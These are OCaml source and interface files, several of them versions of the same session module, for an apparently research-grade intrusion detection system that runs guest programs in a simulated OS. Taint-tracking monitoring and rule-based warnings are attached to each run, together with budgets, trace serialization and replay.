  max_severity : Secpert.Severity.t option;
  event_count : int;
  stats : Obs.snapshot;
}

(* Per-phase wall-clock histograms (stats only — never trace data). *)
let h_build = Obs.Histogram.make "session.phase.build"
let h_spawn = Obs.Histogram.make "session.phase.spawn"
let h_run = Obs.Histogram.make "session.phase.run"

let phase name h f =
  if Obs.Trace.enabled () then Obs.Trace.emit "phase" [ "name", Obs.Str name ];
  Obs.Span.time h f

let build_world s =
  let fs = Osim.Fs.create () in
  List.iter (fun img -> Osim.Fs.install_image fs img) s.programs;
  List.iter (fun (path, data) -> Osim.Fs.install fs path data) s.files;
  let net = Osim.Net.create () in
  Osim.Net.add_host net "LocalHost" localhost_ip;
  List.iter (fun (name, ip) -> Osim.Net.add_host net name ip) s.hosts;
  (* the guest libc resolves names against this database *)
  Osim.Fs.install fs "/etc/hosts.db" (Osim.Net.hosts_db net);
  List.iter
    (fun (host, port, actor) -> Osim.Net.add_server net ~host ~port actor)
    s.servers;
  List.iter
    (fun (port, actor) -> Osim.Net.add_incoming net ~port actor)
    s.incoming;
  fs, net

let run ?monitor_config ?trust ?thresholds ?auto_kill ?policy s =
  let before = Obs.snapshot () in
  let kernel, monitor, secpert =
    phase "build" h_build (fun () ->
        let fs, net = build_world s in
        let kernel =
          Osim.Kernel.create ~fs ~net ~user_input:s.user_input ()
        in
        let monitor = Harrier.Monitor.attach ?config:monitor_config kernel in
        let secpert =
          Secpert.System.create ?trust ?thresholds ?auto_kill ?policy ()
        in
        Secpert.System.attach secpert monitor;
        kernel, monitor, secpert)
  in
  phase "spawn" h_spawn (fun () ->
      match Osim.Kernel.spawn ~env:s.env kernel ~path:s.main ~argv:s.argv with
      | Ok _ -> ()
      | Error msg -> failwith ("Session.run: " ^ msg));
  let os_report =
    phase "run" h_run (fun () -> Osim.Kernel.run kernel ~max_ticks:s.max_ticks)
  in
  { os_report;
    events = Harrier.Monitor.events monitor;
    warnings = Secpert.System.warnings secpert;
    distinct = Secpert.System.distinct_warnings secpert;
    max_severity = Secpert.System.max_severity secpert;
    event_count = Harrier.Monitor.event_count monitor;
    stats = Obs.diff ~before ~after:(Obs.snapshot ()) }

let run_unmonitored s =
  let fs, net = build_world s in
  let kernel = Osim.Kernel.create ~fs ~net ~user_input:s.user_input () in
  (match Osim.Kernel.spawn ~env:s.env kernel ~path:s.main ~argv:s.argv
   with
   | Ok _ -> ()
   | Error msg -> failwith ("Session.run_unmonitored: " ^ msg));
  Osim.Kernel.run kernel ~max_ticks:s.max_ticks
