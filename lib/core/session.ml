type setup = {
  programs : Binary.Image.t list;
  files : (string * string) list;
  hosts : (string * int) list;
  servers : (string * int * Osim.Net.actor) list;
  incoming : (int * Osim.Net.actor) list;
  user_input : string list;
  main : string;
  argv : string list;
  env : string list;
  max_ticks : int;
}

let localhost_ip = 0x0100007F

let setup ?(programs = []) ?(files = []) ?(hosts = []) ?(servers = [])
    ?(incoming = []) ?(user_input = []) ?argv ?(env = [])
    ?(max_ticks = 2_000_000) ~main () =
  let argv = match argv with Some a -> a | None -> [ main ] in
  { programs; files; hosts; servers; incoming; user_input; main; argv; env;
    max_ticks }

type result = {
  os_report : Osim.Kernel.report;
  events : Harrier.Events.t list;
  warnings : Secpert.Warning.t list;
  distinct : Secpert.Warning.t list;
  max_severity : Secpert.Severity.t option;
  event_count : int;
  degraded : string list;
  stats : Obs.snapshot;
  hot_blocks : (int * int * int) list;
}

(* ------------------------------------------------------------------ *)
(* Supervisor budgets                                                  *)

type budgets = {
  b_ticks : int option;
  b_wm_facts : int option;
  b_shadow_pages : int option;
  b_warnings : int option;
}

let no_budgets =
  { b_ticks = None; b_wm_facts = None; b_shadow_pages = None;
    b_warnings = None }

let budget_keys = "ticks, wm, shadow-pages, warnings"

let apply_budget b spec =
  match String.index_opt spec '=' with
  | None -> Error (Fmt.str "budget %S: expected KEY=N (keys: %s)" spec
                     budget_keys)
  | Some eq ->
    let key = String.sub spec 0 eq in
    let v = String.sub spec (eq + 1) (String.length spec - eq - 1) in
    (match int_of_string_opt v with
     | Some n when n >= 1 ->
       (match key with
        | "ticks" -> Ok { b with b_ticks = Some n }
        | "wm" -> Ok { b with b_wm_facts = Some n }
        | "shadow-pages" -> Ok { b with b_shadow_pages = Some n }
        | "warnings" -> Ok { b with b_warnings = Some n }
        | k ->
          Error (Fmt.str "budget %S: unknown key %S (keys: %s)" spec k
                   budget_keys))
     | Some _ | None ->
       Error (Fmt.str "budget %S: %S must be a positive int" spec v))

let parse_budgets specs =
  List.fold_left
    (fun acc spec -> Result.bind acc (fun b -> apply_budget b spec))
    (Ok no_budgets) specs

(* Per-phase wall-clock histograms (stats only — never trace data). *)
let h_build = Obs.Histogram.make "session.phase.build"
let h_spawn = Obs.Histogram.make "session.phase.spawn"
let h_run = Obs.Histogram.make "session.phase.run"

let phase name h f =
  if Obs.Trace.enabled () then Obs.Trace.emit "phase" [ "name", Obs.Str name ];
  Obs.Span.time h f

let build_world s =
  let fs = Osim.Fs.create () in
  List.iter (fun img -> Osim.Fs.install_image fs img) s.programs;
  List.iter (fun (path, data) -> Osim.Fs.install fs path data) s.files;
  let net = Osim.Net.create () in
  Osim.Net.add_host net "LocalHost" localhost_ip;
  List.iter (fun (name, ip) -> Osim.Net.add_host net name ip) s.hosts;
  (* the guest libc resolves names against this database *)
  Osim.Fs.install fs "/etc/hosts.db" (Osim.Net.hosts_db net);
  List.iter
    (fun (host, port, actor) -> Osim.Net.add_server net ~host ~port actor)
    s.servers;
  List.iter
    (fun (port, actor) -> Osim.Net.add_incoming net ~port actor)
    s.incoming;
  fs, net

(* One increment per session under [session.outcome.<kind>]:
   ok / degraded for completed runs, the {!Error.kind} otherwise. *)
let note_outcome kind =
  Obs.Counter.incr (Obs.Counter.labeled "session.outcome" kind)

let run_outcome ?monitor_config ?trust ?thresholds ?auto_kill ?policy
    ?(budgets = no_budgets) ?(fault = Osim.Fault.none) s =
  let before = Obs.snapshot () in
  let fail e =
    note_outcome (Error.kind e);
    Stdlib.Error e
  in
  let mcfg =
    let base =
      Option.value monitor_config ~default:Harrier.Monitor.default_config
    in
    match budgets.b_shadow_pages with
    | None -> base
    | Some n -> { base with Harrier.Monitor.shadow_page_budget = Some n }
  in
  match
    phase "build" h_build (fun () ->
        let fs, net = build_world s in
        let kernel =
          Osim.Kernel.create ~fs ~net ~user_input:s.user_input ~fault ()
        in
        let monitor = Harrier.Monitor.attach ~config:mcfg kernel in
        let secpert =
          try
            Secpert.System.create ?trust ?thresholds ?auto_kill
              ?warning_cap:budgets.b_warnings ?wm_budget:budgets.b_wm_facts
              ?policy ()
          with Failure msg -> raise (Error.Error_exn (Error.Policy_error msg))
        in
        Secpert.System.attach secpert monitor;
        kernel, monitor, secpert)
  with
  | exception Error.Error_exn e -> fail e
  | exception e ->
    fail (Error.Crash { phase = "build"; exn = Printexc.to_string e })
  | kernel, monitor, secpert ->
    (match
       phase "spawn" h_spawn (fun () ->
           Osim.Kernel.spawn ~env:s.env kernel ~path:s.main ~argv:s.argv)
     with
     | exception e ->
       fail (Error.Crash { phase = "spawn"; exn = Printexc.to_string e })
     | Error msg -> fail (Error.Load_failure { path = s.main; reason = msg })
     | Ok _ ->
       let max_ticks =
         match budgets.b_ticks with
         | Some n -> min s.max_ticks n
         | None -> s.max_ticks
       in
       (match phase "run" h_run (fun () -> Osim.Kernel.run kernel ~max_ticks)
        with
        | exception e ->
          fail (Error.Crash { phase = "run"; exn = Printexc.to_string e })
        | os_report ->
          let degraded =
            Harrier.Monitor.degraded monitor @ Secpert.System.degraded secpert
          in
          note_outcome (if degraded = [] then "ok" else "degraded");
          let stats = Obs.diff ~before ~after:(Obs.snapshot ()) in
          let hot_blocks = Harrier.Monitor.hot_blocks monitor ~limit:10 in
          (* Embed the per-run profile in the trace so offline analysis
             ([hth_trace profile]) reproduces the live [--stats] numbers
             from the file alone.  The [taint.*] counters are excluded:
             they measure process-global interning caches whose
             hit/miss split depends on what ran earlier in the process,
             so embedding them would break the run-twice byte-identity
             gate.  Everything else in the diff is per-run state. *)
          if Obs.Trace.enabled () then begin
            List.iter
              (fun (n, v) ->
                let global_cache =
                  String.length n >= 6 && String.sub n 0 6 = "taint."
                in
                if not global_cache then
                  Obs.Trace.emit "counter"
                    [ "name", Obs.Str n; "value", Obs.Int v ])
              stats;
            List.iter
              (fun (pid, addr, count) ->
                Obs.Trace.emit "hot_block"
                  [ "pid", Obs.Int pid; "addr", Obs.Int addr;
                    "count", Obs.Int count ])
              hot_blocks
          end;
          Ok
            { os_report;
              events = Harrier.Monitor.events monitor;
              warnings = Secpert.System.warnings secpert;
              distinct = Secpert.System.distinct_warnings secpert;
              max_severity = Secpert.System.max_severity secpert;
              event_count = Harrier.Monitor.event_count monitor;
              degraded;
              stats;
              hot_blocks }))

let run ?monitor_config ?trust ?thresholds ?auto_kill ?policy ?budgets ?fault
    s =
  match
    run_outcome ?monitor_config ?trust ?thresholds ?auto_kill ?policy
      ?budgets ?fault s
  with
  | Ok r -> r
  | Error e -> raise (Error.Error_exn e)

let run_unmonitored s =
  let fs, net = build_world s in
  let kernel = Osim.Kernel.create ~fs ~net ~user_input:s.user_input () in
  (match Osim.Kernel.spawn ~env:s.env kernel ~path:s.main ~argv:s.argv
   with
   | Ok _ -> ()
   | Error msg ->
     raise
       (Error.Error_exn (Error.Load_failure { path = s.main; reason = msg })));
  Osim.Kernel.run kernel ~max_ticks:s.max_ticks
