(* One-shot sessions: the historical convenience API, now thin wrappers
   over {!Engine}.  Each [run] builds a single-use engine (compiling
   the policy and linking images for just this run) and discards it;
   callers that run many sessions should hold an [Engine.t] instead. *)

type setup = Engine.setup = {
  programs : Binary.Image.t list;
  files : (string * string) list;
  hosts : (string * int) list;
  servers : (string * int * Osim.Net.actor) list;
  incoming : (int * Osim.Net.actor) list;
  user_input : string list;
  main : string;
  argv : string list;
  env : string list;
  max_ticks : int;
}

let localhost_ip = Engine.localhost_ip

let setup = Engine.setup

type tier_counts = Engine.tier_counts = {
  tc_interpreted : int;
  tc_compiled : int;
  tc_summarized : int;
  tc_deopt : int;
}

type result = Engine.result = {
  os_report : Osim.Kernel.report;
  events : Harrier.Events.t list;
  warnings : Secpert.Warning.t list;
  distinct : Secpert.Warning.t list;
  max_severity : Secpert.Severity.t option;
  event_count : int;
  degraded : string list;
  stats : Obs.snapshot;
  hot_blocks : (int * int * int) list;
  tier : tier_counts;
}

type budgets = Engine.budgets = {
  b_ticks : int option;
  b_wm_facts : int option;
  b_shadow_pages : int option;
  b_warnings : int option;
}

let no_budgets = Engine.no_budgets

let parse_budgets = Engine.parse_budgets

let run_outcome ?monitor_config ?trust ?thresholds ?auto_kill ?policy
    ?budgets ?fault ?trace s =
  let eng =
    (* mem_pool_cap:0 — a single-use engine must not retain recycled
       address spaces; that only keeps dead megabytes alive until the
       engine itself is collected *)
    Engine.create ?monitor_config ?trust ?thresholds ?auto_kill ?policy
      ~mem_pool_cap:0 ()
  in
  Engine.run_outcome eng ?budgets ?fault ?trace s

let run ?monitor_config ?trust ?thresholds ?auto_kill ?policy ?budgets ?fault
    ?trace s =
  match
    run_outcome ?monitor_config ?trust ?thresholds ?auto_kill ?policy
      ?budgets ?fault ?trace s
  with
  | Ok r -> r
  | Error e -> raise (Error.Error_exn e)

let run_unmonitored = Engine.run_unmonitored
