open Expert.Sexp

let err fmt = Fmt.kstr (fun s -> failwith s) fmt

(* ---------------- serialization ---------------- *)

let sexp_of_source (s : Taint.Source.t) =
  match s with
  | User_input -> List [ Atom "user" ]
  | Hardware -> List [ Atom "hardware" ]
  | File n -> List [ Atom "file"; Quoted n ]
  | Socket n -> List [ Atom "socket"; Quoted n ]
  | Binary n -> List [ Atom "binary"; Quoted n ]

let sexp_of_tagset t = List (List.map sexp_of_source (Taint.Tagset.to_list t))

let kind_atom = function
  | Harrier.Events.R_file -> Atom "file"
  | Harrier.Events.R_socket -> Atom "socket"
  | Harrier.Events.R_stdio -> Atom "stdio"

let sexp_of_resource (r : Harrier.Events.resource) =
  List [ kind_atom r.r_kind; Quoted r.r_name; sexp_of_tagset r.r_origin ]

let sexp_of_meta (m : Harrier.Events.meta) =
  List
    [ Atom (string_of_int m.pid); Atom (string_of_int m.time);
      Atom (string_of_int m.freq); Atom (string_of_int m.addr);
      Atom (string_of_int m.step) ]

let sexp_of_event (e : Harrier.Events.t) =
  match e with
  | Exec { path; argv; meta } ->
    List
      (Atom "exec" :: sexp_of_resource path :: sexp_of_meta meta
       :: List.map (fun a -> Quoted a) argv)
  | Clone { total; recent; window; meta } ->
    List
      [ Atom "clone"; Atom (string_of_int total);
        Atom (string_of_int recent); Atom (string_of_int window);
        sexp_of_meta meta ]
  | Access { call; res; meta } ->
    List [ Atom "access"; Atom call; sexp_of_resource res; sexp_of_meta meta ]
  | Alloc { requested; total; meta } ->
    List
      [ Atom "alloc"; Atom (string_of_int requested);
        Atom (string_of_int total); sexp_of_meta meta ]
  | Transfer { call; data; head; sources; guard; target; via_server; len;
               meta } ->
    let annotated l =
      List
        (List.map
           (fun (src, origin) ->
             List [ sexp_of_source src; sexp_of_tagset origin ])
           l)
    in
    List
      [ Atom "transfer"; Atom call; sexp_of_tagset data; Quoted head;
        annotated sources; annotated guard;
        sexp_of_resource target;
        (match via_server with
         | None -> Atom "none"
         | Some srv -> sexp_of_resource srv);
        Atom (string_of_int len); sexp_of_meta meta ]

let to_string events =
  String.concat "\n"
    (List.map (fun e -> Fmt.to_to_string pp (sexp_of_event e)) events)
  ^ "\n"

let record (r : Session.result) = to_string r.events

(* ---------------- parsing ---------------- *)

let source_of_sexp = function
  | List [ Atom "user" ] -> Taint.Source.User_input
  | List [ Atom "hardware" ] -> Taint.Source.Hardware
  | List [ Atom "file"; Quoted n ] -> Taint.Source.File n
  | List [ Atom "socket"; Quoted n ] -> Taint.Source.Socket n
  | List [ Atom "binary"; Quoted n ] -> Taint.Source.Binary n
  | f -> err "trace: bad source %a" pp f

let tagset_of_sexp sp = function
  | List sources -> Taint.Tagset.of_list sp (List.map source_of_sexp sources)
  | f -> err "trace: bad tagset %a" pp f

let kind_of_atom = function
  | Atom "file" -> Harrier.Events.R_file
  | Atom "socket" -> Harrier.Events.R_socket
  | Atom "stdio" -> Harrier.Events.R_stdio
  | f -> err "trace: bad resource kind %a" pp f

let resource_of_sexp sp = function
  | List [ kind; Quoted name; tags ] ->
    { Harrier.Events.r_kind = kind_of_atom kind; r_name = name;
      r_origin = tagset_of_sexp sp tags }
  | f -> err "trace: bad resource %a" pp f

let int_of_atom = function
  | Atom a ->
    (match int_of_string_opt a with
     | Some n -> n
     | None -> err "trace: expected integer, got %s" a)
  | f -> err "trace: expected integer, got %a" pp f

let meta_of_sexp = function
  | List [ pid; time; freq; addr; step ] ->
    { Harrier.Events.pid = int_of_atom pid; time = int_of_atom time;
      freq = int_of_atom freq; addr = int_of_atom addr;
      step = int_of_atom step }
  (* pre-provenance traces: four-field metas, step unknown *)
  | List [ pid; time; freq; addr ] ->
    { Harrier.Events.pid = int_of_atom pid; time = int_of_atom time;
      freq = int_of_atom freq; addr = int_of_atom addr; step = -1 }
  | f -> err "trace: bad meta %a" pp f

let string_of_quoted = function
  | Quoted s -> s
  | f -> err "trace: expected string, got %a" pp f

let event_of_sexp sp = function
  | List (Atom "exec" :: path :: meta :: argv) ->
    Harrier.Events.Exec
      { path = resource_of_sexp sp path; meta = meta_of_sexp meta;
        argv = List.map string_of_quoted argv }
  | List [ Atom "clone"; total; recent; window; meta ] ->
    Harrier.Events.Clone
      { total = int_of_atom total; recent = int_of_atom recent;
        window = int_of_atom window; meta = meta_of_sexp meta }
  | List [ Atom "access"; Atom call; res; meta ] ->
    Harrier.Events.Access
      { call; res = resource_of_sexp sp res; meta = meta_of_sexp meta }
  | List [ Atom "alloc"; requested; total; meta ] ->
    Harrier.Events.Alloc
      { requested = int_of_atom requested; total = int_of_atom total;
        meta = meta_of_sexp meta }
  | List
      [ Atom "transfer"; Atom call; data; Quoted head; List sources;
        List guard; target; server; len; meta ] ->
    let annotated =
      List.map (function
        | List [ src; origin ] -> source_of_sexp src, tagset_of_sexp sp origin
        | f -> err "trace: bad transfer source %a" pp f)
    in
    Harrier.Events.Transfer
      { call; data = tagset_of_sexp sp data; head;
        sources = annotated sources; guard = annotated guard;
        target = resource_of_sexp sp target;
        via_server =
          (match server with
           | Atom "none" -> None
           | s -> Some (resource_of_sexp sp s));
        len = int_of_atom len; meta = meta_of_sexp meta }
  (* pre-dormancy traces: nine-field transfers, no guard *)
  | List
      [ Atom "transfer"; Atom call; data; Quoted head; List sources;
        target; server; len; meta ] ->
    Harrier.Events.Transfer
      { call; data = tagset_of_sexp sp data; head;
        sources =
          List.map
            (function
              | List [ src; origin ] ->
                source_of_sexp src, tagset_of_sexp sp origin
              | f -> err "trace: bad transfer source %a" pp f)
            sources;
        guard = [];
        target = resource_of_sexp sp target;
        via_server =
          (match server with
           | Atom "none" -> None
           | s -> Some (resource_of_sexp sp s));
        len = int_of_atom len; meta = meta_of_sexp meta }
  | f -> err "trace: unknown event form %a" pp f

let of_string s =
  (* parsed tag sets live in their own private space, self-consistent
     within the returned event list *)
  let sp = Taint.Space.create () in
  match parse_all s with
  | exception Parse_error msg -> Error msg
  | forms ->
    (try Ok (List.map (event_of_sexp sp) forms) with Failure msg -> Error msg)

(* ---------------- replay ---------------- *)

let replay ?trust ?thresholds ?policy events =
  let secpert = Secpert.System.create ?trust ?thresholds ?policy () in
  List.iter (fun e -> ignore (Secpert.System.handle_event secpert e)) events;
  Secpert.System.warnings secpert
