(** Golden-trace comparison with line-level divergence reporting, used
    by the regression harness in [test/] and by [scripts/check.sh]. *)

type divergence = {
  line : int;  (** 1-based line number of the first difference *)
  expected : string option;  (** [None]: the golden side has no line here *)
  actual : string option;  (** [None]: the live side has no line here *)
}

(** [first_divergence ~expected ~actual] is [None] iff the two strings
    are byte-identical; otherwise the first line-level difference.  A
    byte difference with no differing line (e.g. a missing trailing
    newline) reports the first line past the end. *)
val first_divergence :
  expected:string -> actual:string -> divergence option

(** [report ~name d] renders an actionable failure message naming the
    divergent line and both sides. *)
val report : name:string -> divergence -> string

val read_file : string -> string

(** [compare_file ~golden ~actual] reads the golden file and compares;
    [Error] carries the {!report}. *)
val compare_file : golden:string -> actual:string -> (unit, string) result
