(** Running a guest world under full HTH monitoring — the one-shot API.

    A {!setup} describes everything about one experiment: the images and
    files installed, the network (hosts, scripted servers, scripted
    incoming attackers), the user's typed input, and the program to run.
    [run] builds the kernel, attaches Harrier and Secpert, spawns the
    program and drives the world to completion.

    These are thin wrappers over {!Engine}: each call builds a
    single-use engine and discards it.  Types are shared with the
    engine ([setup], [result], [budgets] are equations), so values
    flow freely between the two APIs.  Callers running many sessions
    should create one {!Engine.t} and reuse it. *)

type setup = Engine.setup = {
  programs : Binary.Image.t list;  (** images installed into the fs *)
  files : (string * string) list;  (** plain files: (path, contents) *)
  hosts : (string * int) list;  (** DNS entries: (name, ip) *)
  servers : (string * int * Osim.Net.actor) list;
      (** remote servers the guest may connect to: (host, port, actor) *)
  incoming : (int * Osim.Net.actor) list;
      (** scripted remote clients for guest listeners: (port, actor) *)
  user_input : string list;  (** successive stdin chunks *)
  main : string;  (** path of the executable to spawn *)
  argv : string list;
  env : string list;  (** environment strings ("NAME=value") *)
  max_ticks : int;
}

(** [setup ~main ()] with sensible defaults: [argv = [main]],
    [max_ticks = 2_000_000], the loopback host predeclared. *)
val setup :
  ?programs:Binary.Image.t list ->
  ?files:(string * string) list ->
  ?hosts:(string * int) list ->
  ?servers:(string * int * Osim.Net.actor) list ->
  ?incoming:(int * Osim.Net.actor) list ->
  ?user_input:string list ->
  ?argv:string list ->
  ?env:string list ->
  ?max_ticks:int ->
  main:string ->
  unit ->
  setup

(** The loopback address every world knows as ["LocalHost"]. *)
val localhost_ip : int

(** Per-tier basic-block execution counts (see {!Engine.tier_counts}). *)
type tier_counts = Engine.tier_counts = {
  tc_interpreted : int;
  tc_compiled : int;
  tc_summarized : int;
  tc_deopt : int;
}

type result = Engine.result = {
  os_report : Osim.Kernel.report;
  events : Harrier.Events.t list;
  warnings : Secpert.Warning.t list;
  distinct : Secpert.Warning.t list;  (** deduplicated *)
  max_severity : Secpert.Severity.t option;
  event_count : int;
  degraded : string list;
      (** non-empty when a monitoring budget tripped mid-run: the
          verdict is still sound but conservative (over-tainting may
          add warnings, the warning transcript may be truncated).  One
          human-readable reason per trip. *)
  stats : Obs.snapshot;
      (** observability counters incremented during this run
          (instructions, syscalls by name, rule firings, warnings by
          severity, ...); strategy counters excluded — see
          {!Engine.result} *)
  hot_blocks : (int * int * int) list;
      (** top-10 hottest application basic blocks as
          [(pid, leader, count)], deterministic ordering — also
          embedded into the trace as ["hot_block"] lines so
          [hth_trace profile] reproduces the live numbers offline *)
  tier : tier_counts;  (** per-tier block execution counts *)
}

(** Supervisor resource budgets for one session.  Every budget degrades
    gracefully: trips surface in {!result.degraded} (and through
    over-tainting possibly extra warnings) — they never abort the
    session. *)
type budgets = Engine.budgets = {
  b_ticks : int option;  (** instruction budget; caps [setup.max_ticks] *)
  b_wm_facts : int option;  (** Secpert working-memory fact budget *)
  b_shadow_pages : int option;  (** Harrier shadow pages per process *)
  b_warnings : int option;  (** stored-warning cap (verdict stays exact) *)
}

(** All budgets off (unbounded). *)
val no_budgets : budgets

(** [parse_budgets specs] folds repeated [--budget KEY=N] arguments —
    keys [ticks], [wm], [shadow-pages], [warnings]; [N] a positive
    int — over {!no_budgets}. *)
val parse_budgets : string list -> (budgets, string) Stdlib.result

(** [run_outcome setup] executes the experiment and isolates every
    session-path failure as a typed {!Error.t}: load failures, policy
    installation errors and escaped exceptions become [Error] values
    instead of aborting the process.  [monitor_config] tunes Harrier
    (ablations turn dataflow/frequency/short-circuiting off); [trust],
    [thresholds] and [auto_kill] configure Secpert; [budgets] bounds the
    run's resources; [fault] injects deterministic syscall faults;
    [trace] scopes a sink to this session (see
    {!Engine.run_outcome}).  Each call increments
    [session.outcome.<kind>]. *)
val run_outcome :
  ?monitor_config:Harrier.Monitor.config ->
  ?trust:Secpert.Trust.t ->
  ?thresholds:Secpert.Context.thresholds ->
  ?auto_kill:Secpert.Severity.t ->
  ?policy:Secpert.System.policy ->
  ?budgets:budgets ->
  ?fault:Osim.Fault.plan ->
  ?trace:Obs.Trace.target ->
  setup ->
  (result, Error.t) Stdlib.result

(** [run setup] is {!run_outcome} for callers that treat failure as
    exceptional.
    @raise Error.Error_exn on any session-path failure. *)
val run :
  ?monitor_config:Harrier.Monitor.config ->
  ?trust:Secpert.Trust.t ->
  ?thresholds:Secpert.Context.thresholds ->
  ?auto_kill:Secpert.Severity.t ->
  ?policy:Secpert.System.policy ->
  ?budgets:budgets ->
  ?fault:Osim.Fault.plan ->
  ?trace:Obs.Trace.target ->
  setup ->
  result

(** [run_unmonitored setup] executes with a null monitor — the baseline
    for the Section 9 performance comparison.
    @raise Error.Error_exn if the main program cannot be loaded. *)
val run_unmonitored : setup -> Osim.Kernel.report
