(** Running a guest world under full HTH monitoring.

    A {!setup} describes everything about one experiment: the images and
    files installed, the network (hosts, scripted servers, scripted
    incoming attackers), the user's typed input, and the program to run.
    [run] builds the kernel, attaches Harrier and Secpert, spawns the
    program and drives the world to completion. *)

type setup = {
  programs : Binary.Image.t list;  (** images installed into the fs *)
  files : (string * string) list;  (** plain files: (path, contents) *)
  hosts : (string * int) list;  (** DNS entries: (name, ip) *)
  servers : (string * int * Osim.Net.actor) list;
      (** remote servers the guest may connect to: (host, port, actor) *)
  incoming : (int * Osim.Net.actor) list;
      (** scripted remote clients for guest listeners: (port, actor) *)
  user_input : string list;  (** successive stdin chunks *)
  main : string;  (** path of the executable to spawn *)
  argv : string list;
  env : string list;  (** environment strings ("NAME=value") *)
  max_ticks : int;
}

(** [setup ~main ()] with sensible defaults: [argv = [main]],
    [max_ticks = 2_000_000], the loopback host predeclared. *)
val setup :
  ?programs:Binary.Image.t list ->
  ?files:(string * string) list ->
  ?hosts:(string * int) list ->
  ?servers:(string * int * Osim.Net.actor) list ->
  ?incoming:(int * Osim.Net.actor) list ->
  ?user_input:string list ->
  ?argv:string list ->
  ?env:string list ->
  ?max_ticks:int ->
  main:string ->
  unit ->
  setup

(** The loopback address every world knows as ["LocalHost"]. *)
val localhost_ip : int

type result = {
  os_report : Osim.Kernel.report;
  events : Harrier.Events.t list;
  warnings : Secpert.Warning.t list;
  distinct : Secpert.Warning.t list;  (** deduplicated *)
  max_severity : Secpert.Severity.t option;
  event_count : int;
  stats : Obs.snapshot;
      (** observability counters incremented during this run
          (instructions, shadow ops, syscalls by name, rule firings,
          warnings by severity, ...) *)
}

(** [run setup] executes the experiment.  [monitor_config] tunes Harrier
    (ablations turn dataflow/frequency/short-circuiting off); [trust],
    [thresholds] and [auto_kill] configure Secpert.
    @raise Failure if the main program cannot be loaded. *)
val run :
  ?monitor_config:Harrier.Monitor.config ->
  ?trust:Secpert.Trust.t ->
  ?thresholds:Secpert.Context.thresholds ->
  ?auto_kill:Secpert.Severity.t ->
  ?policy:Secpert.System.policy ->
  setup ->
  result

(** [run_unmonitored setup] executes with a null monitor — the baseline
    for the Section 9 performance comparison. *)
val run_unmonitored : setup -> Osim.Kernel.report
