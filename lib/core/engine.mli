(** The session engine: compile-once shared artifacts, reused across
    many sessions.

    An engine freezes everything about running HTH sessions that does
    not depend on one particular run — monitor configuration, trust
    database, policy thresholds, the policy itself (compiled once; for
    the textual CLIPS policy that is one parse for the engine's whole
    lifetime), and a cache of linked binary images keyed by program
    set.  {!run} then builds only genuinely per-session state: file
    system, network, kernel, monitor, Secpert instance, and (by
    default) a fresh taint space.

    Determinism contract: a session run through a warm shared engine
    produces byte-identical traces, warnings and verdicts to the same
    session run cold ({!Session.run}).  All shared-artifact resolution
    (image-cache lookups, linking) happens before the run's counter
    snapshot, so it never leaks into [result.stats] or the trace.  The
    one documented exception is [share_taint_space]: sharing one taint
    arena across sessions makes the per-run [taint.*] cache counters
    depend on what ran before, so traced runs then omit them. *)

type setup = {
  programs : Binary.Image.t list;  (** images installed into the fs *)
  files : (string * string) list;  (** plain files: (path, contents) *)
  hosts : (string * int) list;  (** DNS entries: (name, ip) *)
  servers : (string * int * Osim.Net.actor) list;
      (** remote servers the guest may connect to: (host, port, actor) *)
  incoming : (int * Osim.Net.actor) list;
      (** scripted remote clients for guest listeners: (port, actor) *)
  user_input : string list;  (** successive stdin chunks *)
  main : string;  (** path of the executable to spawn *)
  argv : string list;
  env : string list;  (** environment strings ("NAME=value") *)
  max_ticks : int;
}

(** [setup ~main ()] with sensible defaults: [argv = [main]],
    [max_ticks = 2_000_000], the loopback host predeclared. *)
val setup :
  ?programs:Binary.Image.t list ->
  ?files:(string * string) list ->
  ?hosts:(string * int) list ->
  ?servers:(string * int * Osim.Net.actor) list ->
  ?incoming:(int * Osim.Net.actor) list ->
  ?user_input:string list ->
  ?argv:string list ->
  ?env:string list ->
  ?max_ticks:int ->
  main:string ->
  unit ->
  setup

(** The loopback address every world knows as ["LocalHost"]. *)
val localhost_ip : int

(** Per-tier basic-block execution counts for one run. *)
type tier_counts = {
  tc_interpreted : int;  (** block executions stepped per-instruction *)
  tc_compiled : int;  (** block executions run as compiled bodies *)
  tc_summarized : int;
      (** compiled executions whose taint transfer was one fused
          summary application *)
  tc_deopt : int;
      (** deoptimizations: promotion rejections (flow not exactly
          summarizable) plus runtime bounds bail-outs *)
}

val no_tier_counts : tier_counts

type result = {
  os_report : Osim.Kernel.report;
  events : Harrier.Events.t list;
      (** the full event stream, oldest first — [[]] when the engine
          was created with [keep_events:false] *)
  warnings : Secpert.Warning.t list;
  distinct : Secpert.Warning.t list;  (** deduplicated *)
  max_severity : Secpert.Severity.t option;
  event_count : int;
      (** total events emitted (exact even with [keep_events:false]) *)
  degraded : string list;
      (** non-empty when a monitoring budget tripped mid-run: the
          verdict is still sound but conservative (over-tainting may
          add warnings, the warning transcript may be truncated).  One
          human-readable reason per trip. *)
  stats : Obs.snapshot;
      (** observability counters incremented during this run
          (instructions, syscalls by name, rule firings, warnings by
          severity, ...).  Strategy counters — [taint.*],
          [harrier.shadow.*], [vm.blocks.*], [harrier.summary.*] —
          measure how the run was executed rather than what the guest
          did, and are excluded so stats (and the embedded trace
          profile) are byte-identical across execution strategies;
          read them through {!Obs.diff} directly when profiling. *)
  hot_blocks : (int * int * int) list;
      (** top-10 hottest application basic blocks as
          [(pid, leader, count)], deterministic ordering — also
          embedded into the trace as ["hot_block"] lines so
          [hth_trace profile] reproduces the live numbers offline *)
  tier : tier_counts;  (** per-tier block execution counts *)
}

(** Supervisor resource budgets for one session.  Every budget degrades
    gracefully: trips surface in {!result.degraded} (and through
    over-tainting possibly extra warnings) — they never abort the
    session. *)
type budgets = {
  b_ticks : int option;  (** instruction budget; caps [setup.max_ticks] *)
  b_wm_facts : int option;  (** Secpert working-memory fact budget *)
  b_shadow_pages : int option;  (** Harrier shadow pages per process *)
  b_warnings : int option;  (** stored-warning cap (verdict stays exact) *)
}

(** All budgets off (unbounded). *)
val no_budgets : budgets

(** [parse_budgets specs] folds repeated [--budget KEY=N] arguments —
    keys [ticks], [wm], [shadow-pages], [warnings]; [N] a positive
    int — over {!no_budgets}. *)
val parse_budgets : string list -> (budgets, string) Stdlib.result

type t

(** [create ()] compiles the shared artifacts once.

    [monitor_config] tunes Harrier (ablations turn dataflow /
    frequency / short-circuiting off); [trust], [thresholds] and
    [auto_kill] configure every Secpert instance the engine builds;
    [policy] selects the native rules or the textual CLIPS policy
    (parsed here, once).

    [keep_events] (default [true]): when [false], sessions do not
    accumulate their event stream in memory ([result.events] is [[]]) —
    for long corpus runs where only warnings and verdicts matter.

